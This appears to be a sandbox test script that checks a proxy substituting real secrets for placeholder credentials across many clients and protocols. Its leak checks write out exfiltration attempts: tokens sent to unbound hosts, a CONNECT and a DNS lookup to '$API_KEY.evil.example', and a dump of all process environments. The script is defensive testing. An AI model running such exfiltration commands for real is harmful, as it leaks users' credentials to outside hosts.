#!/usr/bin/env bash
# Run inside the sandbox by secrets_run.sh: real clients with the placeholders they
# were given. One `key=value` line per check into $OUT/inside.out; $1 the HTTPS port of
# api.test.example (bound), $2 other.test.example's HTTPS port (not bound), $3 the plain
# HTTP port, $4 the test's data directory (read-only), $5 the output directory.
set -u
A=$1 O=$2 P=$3 D=$4 OUT=$5
r() { echo "$1=$2" >>"$OUT/inside.out"; }
r env_api "$API_KEY"
r env_gh "$GH_TOKEN"
r ssl_cert_file "$SSL_CERT_FILE|$REQUESTS_CA_BUNDLE|$CURL_CA_BUNDLE|$NODE_EXTRA_CA_CERTS|$GIT_SSL_CAINFO"
u=https://api.test.example:$A
# curl: a header and the query string; Basic credentials
r curl_bearer "$(curl -sS -m 20 -H "Authorization: Bearer $API_KEY" "$u/curl?key=$API_KEY" 2>&1)"
r curl_basic "$(curl -sS -m 20 -u "x-access-token:$GH_TOKEN" "$u/basic" 2>&1)"
# python: urllib and requests (the bundle through the distribution's path and the vars)
r urllib "$(U=$u python3 -c 'import os, urllib.request as u
q = u.Request(os.environ["U"] + "/urllib", headers={"X-Api-Key": os.environ["API_KEY"]})
print(u.urlopen(q, timeout=20).read().decode().strip())' 2>&1 | tail -1)"
r requests "$(U=$u python3 -c 'import os, requests
print(requests.get(os.environ["U"] + "/requests", headers={"X-Api-Key": os.environ["API_KEY"]}, timeout=20).text.strip())' 2>&1 | tail -1)"
# node's fetch ignores HTTPS_PROXY: transparent capture brings it to the proxy
r node "$(U=$u node -e 'fetch(process.env.U + "/node", {headers: {"X-Api-Key": process.env.API_KEY}}).then(r => r.text()).then(t => console.log(t.trim()), e => console.log("error " + e.cause))' 2>&1 | tail -1)"
# git over https: Basic credentials after the origin's 401
r git "$(git ls-remote "https://x-access-token:$GH_TOKEN@api.test.example:$A/repo.git" 2>&1 | grep -c refs/heads/main)"
r git_clone "$(cd /tmp && git clone -q "https://x-access-token:$GH_TOKEN@api.test.example:$A/repo.git" clone 2>&1; cat /tmp/clone/README 2>&1)"
# kubectl with the sandbox's kubeconfig: a placeholder token, the sandbox CA
kubectl get --raw /api/v1/namespaces >"$OUT/kubectl.out" 2>&1
r kubectl "$(python3 -c 'import json, sys; print(json.load(sys.stdin)["items"][0]["metadata"]["name"])' <"$OUT/kubectl.out" 2>&1 | tail -1)"
r kube_token "$(grep -c '"token":[[:space:]]*"agentrun-secret-KUBECONFIG_TOKEN-[0-9a-f]\{32\}"' "$KUBECONFIG")"
cp "$KUBECONFIG" "$OUT/kubeconfig"
# keep-alive: three requests on one terminated connection
r keepalive "$(U=$A python3 -c 'import http.client, os, ssl
px = os.environ["HTTPS_PROXY"][7:].split(":")
c = http.client.HTTPSConnection(px[0], int(px[1]), timeout=20, context=ssl.create_default_context())
c.set_tunnel("api.test.example", int(os.environ["U"]))
out, socks = [], set()
for i in range(3):
    c.request("GET", "/keep%d" % i, headers={"X-Api-Key": os.environ["API_KEY"]})
    out.append(c.getresponse().read().decode().strip())
    socks.add(id(c.sock))
print(",".join(out), "same" if len(socks) == 1 else "reconnected")' 2>&1 | tail -1)"
# server-sent events, event by event: the arrival times of 4 events 400 ms apart
r sse "$(U=$u python3 -c 'import os, time, urllib.request as u
t0 = time.time(); ts = []
with u.urlopen(os.environ["U"] + "/sse?n=4&ms=400", timeout=20) as r:
    for line in r:
        if line.startswith(b"data:"):
            ts.append(int((time.time() - t0) * 1000))
print(" ".join(map(str, ts)))' 2>&1 | tail -1)"
# a WebSocket echo through the terminated connection, its upgrade request substituted
r ws "$(U=$A python3 -c 'import base64, os, socket, ssl
px = os.environ["HTTPS_PROXY"][7:].split(":")
s = socket.create_connection((px[0], int(px[1])), timeout=20)
host = "api.test.example:" + os.environ["U"]
s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host)).encode())
assert s.recv(4096).startswith(b"HTTP/1.1 200")
t = ssl.create_default_context().wrap_socket(s, server_hostname="api.test.example")
key = base64.b64encode(os.urandom(16)).decode()
t.sendall(("GET /ws HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\nX-Api-Key: %s\r\n\r\n"
           % (host, key, os.environ["API_KEY"])).encode())
head = b""
while b"\r\n\r\n" not in head:
    head += t.recv(1)
assert head.startswith(b"HTTP/1.1 101"), head
out = []
for msg in (b"hello", b"again"):
    m = os.urandom(4)
    t.sendall(bytes([0x81, 0x80 | len(msg)]) + m + bytes(b ^ m[i % 4] for i, b in enumerate(msg)))
    h = t.recv(2)
    out.append(t.recv(h[1] & 127).decode())
print("|".join(out))' 2>&1 | tail -1)"
# an upload streamed through the terminated connection (20 MiB)
r upload "$(head -c 20971520 /dev/zero | curl -sS -m 60 -H "X-Api-Key: $API_KEY" --data-binary @- "$u/upload" 2>&1)"
# a download through the terminated connection
r big "$(curl -sS -m 60 -o /dev/null -w '%{size_download}' "$u/big?mb=8" 2>&1)"
# the certificate each host presents: the sandbox CA's leaf for the bound host, the
# origin's own through the tunnel of the other
issuer() { openssl s_client -proxy "${HTTPS_PROXY#http://}" -connect "$1" -servername "${1%:*}" </dev/null 2>/dev/null | sed -n 's/^issuer=//p' | head -1; }
r issuer_bound "$(issuer "api.test.example:$A")"
r issuer_other "$(issuer "other.test.example:$O")"
r tunnel_other "$(curl -sS -m 20 --cacert "$D/ca.pem" "https://other.test.example:$O/tunnel" 2>&1)"
# a client that does not trust the sandbox CA (its own roots only: pinned)
r pinned "$(curl -sS -m 20 --cacert "$D/ca.pem" "$u/pinned" 2>&1 | head -c 200)"
# response headers carrying the real value back are masked
r leak_header "$(curl -sS -m 20 -D - -o /dev/null -H "Authorization: Bearer $API_KEY" "$u/leak" | tr -d '\r' | sed -n 's/^X-Echo-Token: //p')"
# leak shapes, each refused (403) and audited by the secret's name
code() { curl -sS -m 20 -o /dev/null -w '%{http_code}' "$@" 2>/dev/null; }
r leak_plain_header "$(code -H "X-Key: $API_KEY" "http://other.test.example:$P/h")"
r leak_plain_url "$(code "http://other.test.example:$P/u?k=$API_KEY")"
r leak_plain_body "$(code --data-binary "{\"k\": \"$GH_TOKEN\"}" "http://other.test.example:$P/b")"
r leak_unbound_secret "$(code -H "X-Key: $GH_TOKEN" "http://api.test.example:$P/g")"
r leak_connect "$(curl -sS -m 20 -o /dev/null -w '%{http_connect}' -p "https://$API_KEY.evil.example:443/" 2>/dev/null)"
r leak_denied_host "$(code -H "X-Key: $API_KEY" "http://nowhere.example:$P/d")"
r leak_dns "$(python3 -c 'import os, socket
try:
    socket.getaddrinfo(os.environ["API_KEY"].lower() + ".evil.example", 443)
    print("resolved")
except socket.gaierror as e:
    print("refused")' 2>&1 | tail -1)"
# plain HTTP to the bound host: substituted too
r plain_bound "$(curl -sS -m 20 -H "X-Api-Key: $API_KEY" "http://api.test.example:$P/plain" 2>&1)"
# transparent capture: curl --noproxy ignores the proxy variables like a proxy-unaware
# client. Plain HTTP goes the explicit proxy's plain-HTTP path (put in for the bound
# host, refused elsewhere, body included); TLS to the bound host's port is terminated.
np() { curl --noproxy '*' -sS -m 20 "$@" 2>&1; }
r cap_plain_bound "$(np -H "X-Api-Key: $API_KEY" "http://api.test.example:$P/capplain?key=$API_KEY")"
r cap_tls_bound "$(np -H "Authorization: Bearer $API_KEY" "$u/captls")"
r cap_issuer_bound "$(openssl s_client -connect "api.test.example:$A" -servername api.test.example </dev/null 2>/dev/null | sed -n 's/^issuer=//p' | head -1)"
r cap_leak_header "$(code --noproxy '*' -H "X-Key: $API_KEY" "http://other.test.example:$P/caph")"
r cap_leak_url "$(code --noproxy '*' "http://other.test.example:$P/capu?k=$API_KEY")"
# the placeholder 40 KB into the body: found across reads, within the first 64 KiB
r cap_leak_body "$({ head -c 40000 /dev/zero | tr '\0' a; echo "$GH_TOKEN"; } | code --noproxy '*' --data-binary @- "http://other.test.example:$P/capb")"
r cap_leak_unbound_secret "$(code --noproxy '*' -H "X-Key: $GH_TOKEN" "http://api.test.example:$P/capg")"
# keep-alive: each request on one captured connection is decided on its own
r cap_keepalive "$(curl --noproxy '*' -sS -m 20 -o /dev/null -o /dev/null -w '%{http_code} %{num_connects};' \
	"http://other.test.example:$P/capk1" "http://other.test.example:$P/capk2?k=$API_KEY" 2>&1)"
# what the sandbox holds: every process's environment and command line, its files
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline >"$OUT/proc.dump" 2>/dev/null
cp "$SSL_CERT_FILE" "$OUT/bundle.pem"
r "done" 1
# the test looks at the proxy and the state while the sandbox still runs
for _ in $(seq 1 300); do [ -e "$OUT/go" ] && break; sleep 0.1; done
